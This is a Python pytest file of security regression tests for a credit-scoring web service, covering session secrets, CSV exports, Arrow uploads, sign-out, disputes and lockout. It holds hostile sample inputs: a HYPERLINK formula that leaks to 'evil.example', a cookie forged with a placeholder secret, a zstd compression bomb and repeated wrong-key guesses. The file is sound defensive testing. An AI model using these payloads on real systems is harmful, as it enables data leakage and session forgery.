"""Issue 21's defects, each reproduced: forged sessions, CSV formulas, Arrow dates, compressed and
oversized Arrow values, sessions outliving sign-out, disputes on missing records, infinities and
unseen levels, and floods of wrong keys."""

from __future__ import annotations

import csv
import io
import logging
import stat
from datetime import date, datetime

import pandas as pd
import pyarrow as pa
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from itsdangerous import URLSafeTimedSerializer

from serving.app import create_app
from serving.exports import safe_cell
from serving.keys import create_key
from serving.store import audit_log, engine_for, latest_scores
from tests.serving.fixtures import Keys, ServedWorld, disputable_record, some_codes
from tests.serving.test_dashboard import browser, csrf_of, sign_in
from tests.serving.test_scores import ARROW, _rows
from zonecredit.settings import SECRET_FILE, Settings

# ---------------------------------------------------------------- the development secret


@pytest.mark.parametrize("placeholder", ["change-me", "CHANGE-ME", "secret", "short"])
@pytest.mark.parametrize("environment", ["development", "production"])
def test_placeholder_secrets_are_refused_in_every_environment(tmp_path, placeholder, environment):
    with pytest.raises(ValueError, match="ZONECREDIT_SECRET_KEY"):
        Settings(home=tmp_path, environment=environment, secret_key=placeholder)


def test_without_a_secret_each_data_directory_generates_its_own(tmp_path):
    first, where = Settings(home=tmp_path / "a").session_secret()
    again, _ = Settings(home=tmp_path / "a").session_secret()
    other, _ = Settings(home=tmp_path / "b").session_secret()
    assert first == again != other and len(first) >= 48
    assert where.endswith(SECRET_FILE)
    assert stat.S_IMODE((tmp_path / "a" / SECRET_FILE).stat().st_mode) == 0o600
    assert Settings(home=tmp_path, secret_key="x" * 40).session_secret() == (
        "x" * 40,
        "ZONECREDIT_SECRET_KEY",
    )


def test_a_session_minted_with_the_old_placeholder_signs_nobody_in(client: TestClient, keys: Keys):
    key_id = keys.admin_teda.split("_")[1]
    forged = URLSafeTimedSerializer("change-me", salt="zonecredit.dashboard.session").dumps(
        {"csrf": "x" * 43, "kid": key_id, "sid": key_id}
    )
    visitor = browser(client)
    visitor.cookies.set("zc_session", forged)
    assert visitor.get("/ranking").status_code == 303, "a forged cookie is sent to sign-in"


def test_start_up_says_which_secret_signs_sessions(world: ServedWorld):
    said: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: said.append(record.getMessage())  # type: ignore[method-assign]
    logging.getLogger("zonecredit.serving").addHandler(handler)
    try:
        create_app(world.settings(), watch_champions=False)
        create_app(world.settings(secret_key="s" * 32), watch_champions=False)
    finally:
        logging.getLogger("zonecredit.serving").removeHandler(handler)
    assert f"dashboard sessions are signed with the secret from {world.home.resolve() / SECRET_FILE}" in said
    assert "dashboard sessions are signed with the secret from ZONECREDIT_SECRET_KEY" in said


# ---------------------------------------------------------------- CSV exports

FORMULA = '=HYPERLINK("http://evil.example/?leak","y")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_cells_are_quoted(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Tianjin Bohai Ltd") == "Tianjin Bohai Ltd" and safe_cell(-0.5) == -0.5


def test_ranking_export_neutralises_formula_names(client: TestClient, keys: Keys, settings):
    code = some_codes(settings, "teda", 1)[0]
    engine = engine_for(settings.resolved_database_url)
    with engine.begin() as connection:
        name = connection.execute(
            sa.select(latest_scores.c.name).where(latest_scores.c.credit_code == code)
        ).scalar_one()
        connection.execute(
            latest_scores.update().where(latest_scores.c.credit_code == code).values(name=FORMULA)
        )
    try:
        teda, _ = sign_in(client, keys.admin_teda)
        export = teda.get("/ranking.csv?zone=teda")
    finally:
        with engine.begin() as connection:
            connection.execute(
                latest_scores.update().where(latest_scores.c.credit_code == code).values(name=name)
            )
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    mine = next(r for r in rows if r["credit_code"] == code)
    assert mine["name"] == "'" + FORMULA
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())


# ---------------------------------------------------------------- Arrow bodies


def _stream(table: pa.Table, compression: str | None = None) -> bytes:
    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression=compression)
    with pa.ipc.new_stream(sink, table.schema, options=options) as writer:
        writer.write_table(table)
    return sink.getvalue().to_pybytes()


@pytest.fixture(scope="module")
def feature_table(settings) -> pa.Table:
    frame = pd.DataFrame(_rows(settings, some_codes(settings, None, 3)))
    frame["as_of"] = pd.to_datetime(frame["as_of"]).dt.date
    return pa.Table.from_pandas(frame, preserve_index=False)


def _post(client: TestClient, keys: Keys, body: bytes):
    return client.post("/v1/scores", content=body, headers={**Keys.header(keys.scorer), **ARROW})


def _with(table: pa.Table, name: str, column: pa.Array) -> pa.Table:
    return table.set_column(table.schema.get_field_index(name), name, column)


@pytest.mark.parametrize(
    ("values", "kind"),
    [
        ([date(2024, 10, 31), date(9999, 1, 1), date(2024, 10, 31)], pa.date32()),
        ([date(2024, 10, 31), date(1, 1, 1), date(2024, 10, 31)], pa.date32()),
        ([datetime(2024, 10, 31), datetime(3000, 1, 1), datetime(2024, 10, 31)], pa.timestamp("s")),
    ],
)
def test_arrow_dates_outside_the_nanosecond_range_are_422_naming_column_and_row(
    client: TestClient, keys: Keys, feature_table, values, kind
):
    response = _post(client, keys, _stream(_with(feature_table, "as_of", pa.array(values, kind))))
    assert response.status_code == 422, response.text
    assert (
        "column as_of, row 1" in response.json()["detail"]
        and "outside the dates" in response.json()["detail"]
    )


@pytest.mark.parametrize("codec", ["zstd", "lz4"])
def test_compressed_arrow_streams_are_refused_before_inflating(
    client: TestClient, keys: Keys, feature_table, codec
):
    assert _post(client, keys, _stream(feature_table)).status_code == 200
    response = _post(client, keys, _stream(feature_table, codec))
    assert response.status_code == 415 and "compressed" in response.json()["detail"]
    bomb = pa.table({"credit_code": pa.array(["9" * 100_000] * 50)})  # 5 MB that zstd packs into a few KB
    body = _stream(bomb, codec)
    assert len(body) < 64_000
    assert _post(client, keys, body).status_code == 415


def test_long_text_values_are_refused_naming_the_row(client: TestClient, keys: Keys, feature_table):
    industry = pa.array(["C13", "C" * 5_000, "C13"])
    response = _post(client, keys, _stream(_with(feature_table, "reg_industry", industry)))
    assert response.status_code == 422
    assert "column reg_industry, row 1: 5000 bytes of text; at most 256" in response.json()["detail"]


def test_the_openapi_description_states_the_arrow_limits(client: TestClient):
    body = client.get("/openapi.json").json()["paths"]["/v1/scores"]["post"]["requestBody"]
    described = body["content"]["application/vnd.apache.arrow.stream"]["description"]
    assert "uncompressed" in described and "256 bytes" in described and "1677-09-22" in described


def test_infinities_and_unseen_levels_are_refused_in_every_form(
    client: TestClient, keys: Keys, feature_table
):
    infinite = _with(feature_table, "tax_arrears_months_12m", pa.array([0.0, float("inf"), 1.0]))
    arrow = _post(client, keys, _stream(infinite))
    assert arrow.status_code == 422
    assert (
        "column tax_arrears_months_12m, row 1: an infinity is not a feature value" in arrow.json()["detail"]
    )
    unseen = _with(feature_table, "reg_industry", pa.array(["C13", "not-an-industry", None]))
    arrow = _post(client, keys, _stream(unseen))
    assert arrow.status_code == 422
    assert "column reg_industry, row 1: 'not-an-industry' is not a level" in arrow.json()["detail"]
    frame = unseen.to_pandas().astype(object)
    frame["as_of"] = frame["as_of"].astype(str)
    frame = frame.where(frame.notna(), None)
    header = Keys.header(keys.scorer)
    rows = client.post("/v1/scores", json={"rows": frame.to_dict(orient="records")}, headers=header)
    assert rows.status_code == 422 and "rows[1].reg_industry: 'not-an-industry'" in rows.json()["detail"]
    columns = client.post("/v1/scores", json={"columns": frame.to_dict(orient="list")}, headers=header)
    assert (
        columns.status_code == 422
        and "columns.reg_industry[1]: 'not-an-industry'" in columns.json()["detail"]
    )
    spelled = b'{"rows": [{"tax_arrears_months_12m": 1e999}]}'  # JSON's only way to write an infinity
    json_inf = client.post(
        "/v1/scores", content=spelled, headers={**header, "Content-Type": "application/json"}
    )
    assert json_inf.status_code == 422 and "infinity" in json_inf.json()["detail"]


# ---------------------------------------------------------------- sessions


def test_sign_out_ends_a_copied_session_cookie(client: TestClient, keys: Keys):
    visitor, _ = sign_in(client, keys.analyst)
    copied = visitor.cookies.get("zc_session")
    assert visitor.get("/").status_code == 200
    visitor.post("/logout", data={"csrf": csrf_of(visitor.get("/").text)})
    thief = browser(client)
    thief.cookies.set("zc_session", copied)
    assert thief.get("/").status_code == 303, "the copied cookie died with the sign-out"


def test_a_plain_get_of_the_sign_in_page_does_not_sign_out(client: TestClient, keys: Keys):
    visitor, _ = sign_in(client, keys.analyst)
    again = visitor.get("/login?next=/warnings")
    assert again.status_code == 303 and again.headers["location"] == "/warnings"
    assert visitor.get("/").status_code == 200


# ---------------------------------------------------------------- disputes


def _dispute(client: TestClient, key: str, code: str, record_key: dict, source: str = "credit_events"):
    body = {"credit_code": code, "source": source, "record_key": record_key, "action": "revoke", "claim": "x"}
    return client.post("/v1/disputes", json=body, headers=Keys.header(key))


def test_disputes_need_a_record_of_the_enterprise(client: TestClient, keys: Keys, settings):
    code, event_id = disputable_record(settings, "teda")
    other, _ = disputable_record(settings, "teda", skip=1)
    missing = _dispute(client, keys.analyst, code, {"event_id": "no-such-event"})
    assert (
        missing.status_code == 422
        and "has no credit_events record with event_id=no-such-event" in missing.text
    )
    elsewhere = _dispute(client, keys.analyst, other, {"event_id": event_id})
    assert elsewhere.status_code == 422, "another enterprise's record is not this one's"
    no_period = _dispute(client, keys.analyst, code, {"period": "1990-01"}, source="tax")
    assert no_period.status_code == 422 and "has no tax record" in no_period.text


# ---------------------------------------------------------------- lockout


def test_wrong_keys_lock_out_the_client_and_the_key_id_with_retry_after(world: ServedWorld, settings):
    strict = world.settings(auth_failures_per_key=3, auth_failures_per_client=5, auth_window_seconds=60)
    key = create_key(settings.resolved_database_url, "analyst", name="locked out")
    key_id = key.split("_")[1]
    guess = f"zc_{key_id}_{'A' * 43}"
    with TestClient(create_app(strict, watch_champions=False)) as api:
        statuses = [api.get("/v1/warnings", headers=Keys.header(guess)).status_code for _ in range(4)]
        assert statuses == [401, 401, 401, 429]
        locked = api.get("/v1/warnings", headers=Keys.header(key))
        assert locked.status_code == 429 and int(locked.headers["Retry-After"]) >= 1, "the key id is locked"
        for _ in range(2):
            api.get("/v1/warnings", headers=Keys.header("zc_000000000000_wrong"))
        other = create_key(settings.resolved_database_url, "analyst", name="same client")
        assert api.get("/v1/warnings", headers=Keys.header(other)).status_code == 429, "the client is locked"
        visitor = TestClient(api.app, follow_redirects=False)
        page = visitor.post("/login", data={"key": other, "csrf": csrf_of(visitor.get("/login").text)})
        assert page.status_code == 429 and page.headers["Retry-After"]
        api.app.state.service.audit.flush()
    with engine_for(settings.resolved_database_url).connect() as connection:
        refused = connection.execute(
            sa.select(audit_log.c.key_id, audit_log.c.client, audit_log.c.status).where(
                audit_log.c.purpose == "failed-sign-in", audit_log.c.key_id == key_id
            )
        ).all()
    assert (
        len(refused) == 3
        and {r.client for r in refused} == {"testclient"}
        and {r.status for r in refused} == {401}
    )


def test_failed_dashboard_sign_ins_are_audited(client: TestClient, settings):
    visitor = browser(client)
    guess = "zc_abcdef012345_" + "B" * 43
    assert (
        visitor.post("/login", data={"key": guess, "csrf": csrf_of(visitor.get("/login").text)}).status_code
        == 401
    )
    client.app.state.service.audit.flush()
    with engine_for(settings.resolved_database_url).connect() as connection:
        row = (
            connection.execute(sa.select(audit_log).where(audit_log.c.key_id == "abcdef012345"))
            .mappings()
            .one()
        )
    assert (row["action"], row["purpose"], row["status"]) == ("dashboard POST /login", "failed-sign-in", 401)


# ---------------------------------------------------------------- OpenAPI's date-time


def test_timestamps_carry_their_offset_as_date_time_requires(client: TestClient, keys: Keys, settings):
    code = some_codes(settings, "teda", 1)[0]
    body = client.get(f"/v1/enterprises/{code}", headers=Keys.header(keys.admin_teda)).json()
    stored = client.get(f"/v1/enterprises/{code}/score", headers=Keys.header(keys.admin_teda)).json()
    stamps = [h["scored_at"] for h in body["history"]] + [body["score"]["scored_at"], stored["scored_at"]]
    assert stamps and all(datetime.fromisoformat(s).utcoffset() is not None for s in stamps), stamps


def test_what_the_schema_allows_for_zone_and_purpose_is_what_the_service_takes(
    client: TestClient, keys: Keys
):
    import re

    operation = client.get("/openapi.json").json()["paths"]["/v1/warnings"]["get"]
    patterns = {
        p["name"]: p["schema"].get("pattern") or p["schema"]["anyOf"][0].get("pattern")
        for p in operation["parameters"]
        if p["name"] in ("zone", "purpose", "x-purpose")
    }
    assert set(patterns) == {"zone", "purpose", "x-purpose"} and all(patterns.values()), patterns
    header = Keys.header(keys.analyst)
    for name, value in (("zone", ""), ("purpose", ""), ("zone", "teda"), ("purpose", "inspection")):
        allowed = re.search(patterns[name], value) is not None
        answer = client.get("/v1/warnings", params={name: value}, headers=header)
        assert (answer.status_code == 200) == allowed, (name, value, answer.text)
